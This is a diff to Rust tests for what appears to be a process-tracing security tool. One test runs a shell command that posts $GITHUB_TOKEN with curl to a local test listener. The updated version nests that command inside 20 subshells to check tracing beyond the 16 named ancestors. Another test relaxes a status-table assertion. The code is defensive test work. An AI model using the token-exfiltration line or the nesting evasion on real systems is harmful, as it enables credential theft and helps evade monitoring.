@@ -256,7 +256,12 @@ pub fn trace_follows_descendants() {
         .spawn();
     let act = trace::command(&scratch, &[])
         .args(["sh", "-c"])
-        .arg("(cat \"$2\" >/dev/null; sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"; :); exit 3")
+        .arg(format!(
+            "(cat \"$2\" >/dev/null; {}sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"{}; :); exit 3",
+            // Further below the command than a process's ancestors are named (16).
+            "( ".repeat(20),
+            "; :)".repeat(20)
+        ))
         .arg("sh")
         .arg(sink.port.to_string())
         .arg(&file)
@@ -475,12 +480,13 @@ pub fn doctor_names_every_signal() {
             assert!(!library.reason.is_empty(), "{library:?}");
         }
         let table = doctor("table").stdout_text();
-        let verdict = if running {
-            "All is well."
+        // Kernels without the better tier refuse hooks, and there always is a process that began before the agent.
+        let verdicts: &[&str] = if running {
+            &["All is well.", "Well, within limits: "]
         } else {
-            "NOT WELL: no agent answers on unix:"
+            &["NOT WELL: no agent answers on unix:"]
         };
-        assert!(table.starts_with(verdict), "{table}");
+        assert!(verdicts.iter().any(|v| table.starts_with(v)), "{table}");
         for signal in SIGNALS {
             assert!(table.contains(signal), "no {signal} in:\n{table}");
         }
